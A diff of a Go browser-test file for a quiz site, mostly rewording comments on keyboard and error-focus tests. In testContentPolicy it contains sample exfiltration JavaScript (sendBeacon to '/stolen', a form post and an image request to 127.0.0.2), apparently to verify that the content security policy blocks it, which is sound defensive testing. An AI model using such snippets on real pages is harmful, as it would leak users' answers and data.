@@ -131,7 +131,7 @@ func testQuizMouse(t *testing.T, b *browser, site *webSite) {
 }
 
 // testUnanswered checks that a question without an answer shows an error, moves the focus to its
-// first control that can be used, and marks what is invalid.
+// first enabled control, and marks the invalid controls.
 func testUnanswered(t *testing.T, tab *tab, site *webSite) {
 	tab.visitAndShowAll(site.root + quizModule)
 	for _, c := range []struct{ question, error, focus, invalid string }{
@@ -214,8 +214,8 @@ func (p *tab) tabTo(selector string) {
 	p.t.Fatalf("Tab never reaches %s", selector)
 }
 
-// testQuizKeyboard uses the keyboard alone. It gives the right answer to every question that has
-// one, and opens the points that a good answer to a question for reflection covers.
+// testQuizKeyboard answers questions using only the keyboard. It gives the right answer to every
+// question that has one, and opens the points of a good answer to a reflection question.
 func testQuizKeyboard(t *testing.T, b *browser, site *webSite) {
 	tab := b.newTab(t, wideWidth)
 	tab.visitAndShowAll(site.root + quizModule)
@@ -295,7 +295,7 @@ func testContentPolicy(t *testing.T, b *browser, site *webSite) {
 		navigator.sendBeacon('/stolen', 'answers');
 		const form = document.createElement('form');
 		form.method = 'post';
-		form.action = 'http://127.0.0.2/stolen'; // the search form of the header goes to the site itself
+		form.action = 'http://127.0.0.2/stolen'; // the page has a search form, whose target is this site
 		document.body.append(form);
 		form.submit();
 		document.body.append(Object.assign(new Image(), {src: 'http://127.0.0.2/picture.png'}));
